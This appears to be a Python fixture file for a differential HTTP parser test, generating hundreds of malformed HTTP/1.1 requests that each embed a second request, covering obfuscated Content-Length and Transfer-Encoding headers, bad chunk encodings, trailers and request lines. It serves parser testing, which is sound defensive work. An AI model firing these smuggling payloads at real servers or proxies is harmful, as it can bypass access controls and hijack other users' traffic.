# SPDX-License-Identifier: Apache-2.0
"""Hostile requests for differential_test.py: (name, bytes). What has been seen to smuggle somewhere, and combinations of it.

Each is followed by a request of its own that the attacker would like to see separated, or merged, differently.
"""
POST = b"POST /p HTTP/1.1\r\nHost: a\r\n"
GET = b"GET /g HTTP/1.1\r\nHost: a\r\n"
INNER = b"GET /inner HTTP/1.1\r\nHost: a\r\n\r\n"
LAST = b"0\r\n\r\n"
HELLO = b"5\r\nHELLO\r\n" + LAST


def name_tricks():
    for framing, body in ((b"Content-Length", b"5"), (b"Transfer-Encoding", b"chunked")):
        content = b"HELLO" if body == b"5" else HELLO
        for trick in (b"%s :", b"%s\t:", b" %s:", b"\t%s:", b"%s\x00:", b"\x00%s:", b"%s\x0b:", b"\x0b%s:", b"%s\r:", b"%s\n:", b"X\r%s:", b"X\n%s:", b"%s\xa0:", b"\xef\xbb\xbf%s:", b"%s::", b":%s:", b"\"%s\":", b"%s;:",
                      b"X: y\r%s:", b"X: y\n%s:", b"X: y\r\n %s:", b"X: y\n\n%s:", b"X: y\r\r\n%s:", b"X: y\x00\r\n%s:"):
            yield f"name {trick % framing!r}", POST + trick % framing + b" " + body + b"\r\n\r\n" + content + INNER
        for spelled in (framing.lower(), framing.upper(), framing.swapcase(), framing.replace(b"-", b"_"), framing.replace(b"-", b"\xad"), framing.replace(b"-", b" "), b"X-" + framing, framing + b"-X", framing[:-1], framing + b"s"):
            yield f"name {spelled!r}", POST + spelled + b": " + body + b"\r\n\r\n" + content + INNER


def length_tricks():
    for value in (b"+5", b"-5", b"-0", b"0x5", b"0X5", b"05", b"0005", b"5 ", b" \t5\t", b"5 5", b"5,5", b"5, 5", b"5,6", b"5;", b"5;q=1", b"5.0", b"5e0", b"1_0", b"0b101", b"0o5", b"\"5\"", b"", b" ", b"five", b"\x005", b"5\x00", b"\x0b5",
                  b"5\x0b", b"\xa05", b"5\r", b"5\n", b"99999999999999999999", b"18446744073709551616", b"18446744073709551621", b"9223372036854775807", b"9223372036854775808", b"4294967296", b"4294967301", b"5\r\n ", b"\r\n 5",
                  b"0", b"00", b"1", b"\xd9\xa5"):
        yield f"length {value!r}", POST + b"Content-Length:" + value + b"\r\n\r\nHELLO" + INNER
    for first, second in ((b"5", b"5"), (b"5", b"6"), (b"0", b"5"), (b"5", b"0"), (b"5", b""), (b"", b"5"), (b"5", b"x"), (b"05", b"5")):
        yield f"lengths {first!r} {second!r}", POST + b"Content-Length: " + first + b"\r\nContent-Length: " + second + b"\r\n\r\nHELLO" + INNER
        yield f"lengths {first!r} {second!r} apart", POST + b"Content-Length: " + first + b"\r\nX: y\r\ncontent-length: " + second + b"\r\n\r\nHELLO" + INNER


def coding_tricks():
    for value in (b"chunked", b"Chunked", b"CHUNKED", b"\tchunked", b"chunked\t", b" chunked ", b"chunked\x0b", b"\x0bchunked", b"\xa0chunked", b"chunked\xa0", b"\x00chunked", b"chunked\x00", b"chunked;q=1", b"chunked;", b",chunked", b"chunked,", b"chunked,,",
                  b"chunked, chunked", b"chunked, identity", b"identity, chunked", b"identity", b"gzip, chunked", b"chunked, gzip", b"x, chunked", b"xchunked", b"chunkedx", b"chunked x", b"x chunked", b"\"chunked\"", b"'chunked'", b"chunke", b"hunked",
                  b"", b" ", b"\r\n chunked", b"\r\n\tchunked", b"chunked\r\n ", b"chunked\r", b"chunked\n", b"c hunked", b"chunked#", b"(chunked)", b"[chunked]", b"chunked/1", b"cow", b"cow, chunked", b"null", b"0", b"chunked\xff", b"\x7fchunked"):
        yield f"coding {value!r}", POST + b"Transfer-Encoding:" + value + b"\r\n\r\n" + HELLO + INNER
        yield f"coding {value!r} and a length", POST + b"Content-Length: 4\r\nTransfer-Encoding:" + value + b"\r\n\r\n" + HELLO + INNER
    for first, second in ((b"chunked", b"chunked"), (b"chunked", b"identity"), (b"identity", b"chunked"), (b"chunked", b"x"), (b"x", b"chunked"), (b"", b"chunked"), (b"chunked", b"")):
        yield f"codings {first!r} {second!r}", POST + b"Transfer-Encoding: " + first + b"\r\nTransfer-Encoding: " + second + b"\r\n\r\n" + HELLO + INNER
    for version in (b"1.0", b"1.2", b"0.9", b"2.0"):
        yield f"chunked in {version!r}", POST.replace(b"1.1", version) + b"Transfer-Encoding: chunked\r\n\r\n" + HELLO + INNER
    for method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"TRACE", b"BREW", b"post"):
        yield f"chunked {method!r}", POST.replace(b"POST", method) + b"Transfer-Encoding: chunked\r\n\r\n" + HELLO + INNER
        yield f"length {method!r}", POST.replace(b"POST", method) + b"Content-Length: 5\r\n\r\nHELLO" + INNER
    for option in (b"Transfer-Encoding", b"Content-Length", b"close, Transfer-Encoding", b"Host", b"x-inner, content-length", b"keep-alive", b"\"close\"", b"close\x0b", b",,,"):
        yield f"nominated {option!r}", POST + b"Connection: " + option + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + HELLO + INNER
        yield f"nominated {option!r} with a length", POST + b"Connection: " + option + b"\r\nContent-Length: 5\r\n\r\nHELLO" + INNER


def chunk_tricks():
    head = POST + b"Transfer-Encoding: chunked\r\n\r\n"
    for size in (b"5", b"05", b"0000000000000005", b"00000000000000005", b"100000000000000005", b"fffffffffffffffb", b"+5", b"-5", b"0x5", b"5 ", b" 5", b"\t5", b"5\t", b"5;", b"5;a", b"5;a=b", b"5;a=\"b\"", b"5;a=\"\r\n\"", b"5;\x00", b"5;\n", b"5\n;",
                 b"5 ;a", b"5; a", b"5;a=\"b", b"5g", b"5\x00", b"\x005", b"5_", b"", b"five", b"5,5", b"5.0", b"5\r", b"5\x0b", b"5h", b"5\"", b"5#", b"5;" + b"x" * 20000, b"5;a=\n0\r\n\r\n" + INNER):
        yield f"chunk size {size[:40]!r}", head + size + b"\r\nHELLO\r\n" + LAST + INNER
    for name, body in (("LF", b"5\nHELLO\r\n0\r\n\r\n"), ("LF behind", b"5\r\nHELLO\n0\r\n\r\n"), ("CR", b"5\rHELLO\r\n0\r\n\r\n"), ("no end", b"5\r\nHELLO0\r\n\r\n"), ("XX", b"5\r\nHELLOXX0\r\n\r\n"), ("too long", b"4\r\nHELLO\r\n0\r\n\r\n"), ("too short", b"6\r\nHELLO\r\n0\r\n\r\n"),
                       ("LF at the last", b"5\r\nHELLO\r\n0\n\n"), ("LF at the end", b"5\r\nHELLO\r\n0\r\n\n"), ("CRLF more", b"5\r\nHELLO\r\n\r\n0\r\n\r\n"), ("CRLF first", b"\r\n5\r\nHELLO\r\n0\r\n\r\n"), ("no last", b"5\r\nHELLO\r\n"), ("last only", b"0\r\n"),
                       ("double last", b"5\r\nHELLO\r\n0\r\n\r\n0\r\n\r\n"), ("0 and more", b"5\r\nHELLO\r\n0 \r\n\r\n"), ("00", b"5\r\nHELLO\r\n00\r\n\r\n"), ("-0", b"5\r\nHELLO\r\n-0\r\n\r\n"), ("0x0", b"5\r\nHELLO\r\n0x0\r\n\r\n"),
                       ("last in an extension", b"5;0\r\nHELLO\r\n0\r\n\r\n"), ("many", b"1\r\nh\r\n" * 5 + LAST), ("hex capitals", b"A\r\n0123456789\r\n" + LAST)):
        yield f"chunks {name}", head + body + INNER
    for trailer in (b"Content-Length: 40", b"Transfer-Encoding: chunked", b"Host: evil", b"X: y", b"Connection: close", b" folded", b"X : y", b"X: y\r\n z", b"X: y\nZ: w", b"X: y\rZ: w", b"X", b": y", b"GET /inner HTTP/1.1", b"X: \x00", b"Authorization: x",
                    b"X: y\r\nContent-Length: 40", b"Trailer: X", b"X" * 20000 + b": y"):
        yield f"trailer {trailer[:40]!r}", head + b"5\r\nHELLO\r\n0\r\n" + trailer + b"\r\n\r\n" + INNER


def line_tricks():
    for line in (b"GET  /g HTTP/1.1", b"GET /g  HTTP/1.1", b"GET\t/g HTTP/1.1", b" GET /g HTTP/1.1", b"GET /g HTTP/1.1 ", b"GET /g HTTP/1.1\r", b"GET /g\x00 HTTP/1.1", b"GET /g HTTP/1.1\x00", b"GET /g", b"GET /g HTTP/1", b"GET /g HTTP/11", b"GET /g http/1.1",
                 b"GET /g HTTP/1.1 HTTP/1.1", b"GET /g?a b HTTP/1.1", b"GET /g#f HTTP/1.1", b"GET /\xe4 HTTP/1.1", b"GET /\x7f HTTP/1.1", b"GET /g HTTP/2.0", b"GET /g HTTP/1.9", b"GET g HTTP/1.1", b"GET ?g HTTP/1.1", b"GET * HTTP/1.1", b"OPTIONS * HTTP/1.1",
                 b"G\x00T /g HTTP/1.1", b"GET: /g HTTP/1.1", b"get /g HTTP/1.1", b"GET /g HTTP/1.1\nX: y", b"GET /g\nHTTP/1.1", b"GET //g HTTP/1.1", b"GET /../g HTTP/1.1", b"GET /%00 HTTP/1.1", b"GET /%2f..%2f HTTP/1.1", b"GET /g\\x HTTP/1.1",
                 b"GET /g;x HTTP/1.1", b"GET /g?a?b=/c HTTP/1.1", b"GET /" + b"g" * 4000 + b" HTTP/1.1"):
        yield f"line {line[:40]!r}", line + b"\r\nHost: a\r\n\r\n" + INNER
    for target in (b"http://b/g", b"http://b", b"http://b?g", b"HTTP://b/g", b"https://b/g", b"http://u@b/g", b"http://b:80/g", b"http://b:0/g", b"http:///g", b"http:/g", b"http://", b"//b/g", b"http://b/http://c/", b"http://b\\@c/g", b"http://b#c", b"b:80",
                   b"ftp://b/g", b"http://[::1]/g", b"http://[::1/g", b"http://b c/g", b"http://b%00/g", b"http://b,c/g"):
        yield f"target {target!r}", b"GET " + target + b" HTTP/1.1\r\nHost: a\r\n\r\n" + INNER
    for host in (b"", b"a\r\nHost: b", b"a, b", b"a b", b"u@a", b"a/b", b"a:80", b"a:x", b"a:", b"[::1]", b"[::1", b"a\x00b", b"a\tb", b"a#b", b"a?b", b"a\\b", b"a\r\n b", b"a\rb", b"\xc3\xa4"):
        yield f"host {host!r}", b"GET /g HTTP/1.1\r\nHost: " + host + b"\r\n\r\n" + INNER
    yield "no host", b"GET /g HTTP/1.1\r\n\r\n" + INNER
    yield "no host in 1.0", b"GET /g HTTP/1.0\r\n\r\n" + INNER


def field_tricks():
    for field in (b"X: a\nContent-Length: 34", b"X: a\rContent-Length: 34", b"X: a\r\n\tContent-Length: 34", b"X: a\x00Content-Length: 34", b"X: a\r\n \r\nContent-Length: 34", b"X\r\n: a", b"X: a\r\r\n", b"X", b": a", b"X: \x01", b"X: \x7f", b"X: \xff", b"X:" + b" " * 3000 + b"a",
                  b"X: a\r\n\nY: b", b"X: a\n\r\nY: b", b"X\xc3\xa4: a", b"X(): a", b"X{}: a", b"\x85: a", b"X: a\x85Content-Length: 5", b"X: a\x0bContent-Length: 5", b"X: a\x1cContent-Length: 5", b"X: a\xe2\x80\xa8Content-Length: 5"):
        yield f"field {field[:40]!r}", GET + field + b"\r\n\r\n" + INNER
    for expect in (b"100-continue", b"x", b"100-continue, x"):
        yield f"expect {expect!r}", POST + b"Expect: " + expect + b"\r\nContent-Length: 5\r\n\r\nHELLO" + INNER
    for upgrade in (b"h2c", b"websocket", b"x"):
        yield f"upgrade {upgrade!r}", GET + b"Upgrade: " + upgrade + b"\r\n\r\n" + INNER
        yield f"upgrade {upgrade!r} with content", POST + b"Connection: upgrade\r\nUpgrade: " + upgrade + b"\r\nContent-Length: 5\r\n\r\nHELLO" + INNER


def early_bytes():
    for count in (1, 2, 5):
        yield f"{count} requests", (GET + b"\r\n") * count + INNER
    yield "behind a length", POST + b"Content-Length: 5\r\n\r\nHELLO" + INNER
    yield "behind a length that is too small", POST + b"Content-Length: 3\r\n\r\nHELLO" + INNER
    yield "behind a length that is too large", POST + b"Content-Length: 9\r\n\r\nHELLO" + INNER
    yield "empty lines between", GET + b"\r\n" + b"\r\n" * 3 + INNER
    yield "LF between", GET + b"\r\n" + b"\n" + INNER
    yield "CR between", GET + b"\r\n" + b"\r" + INNER
    yield "blank between", GET + b"\r\n" + b" " + INNER
    yield "NUL between", GET + b"\r\n" + b"\x00" + INNER
    yield "content of a GET without framing", GET + b"\r\nHELLO" + INNER
    yield "close, then more", GET + b"Connection: close\r\n\r\n" + INNER
    yield "1.0, then more", GET.replace(b"1.1", b"1.0") + b"\r\n" + INNER
    yield "a whole request as content", POST + b"Content-Length: %d\r\n\r\n" % len(INNER) + INNER + INNER
    yield "a whole request as a chunk", POST + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(INNER) + INNER + b"\r\n" + LAST + INNER
    yield "a preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + INNER
    yield "garbage", b"\xff\xfe" * 50 + INNER


PAYLOADS = [one for table in (name_tricks, length_tricks, coding_tricks, chunk_tricks, line_tricks, field_tricks, early_bytes) for one in table()]
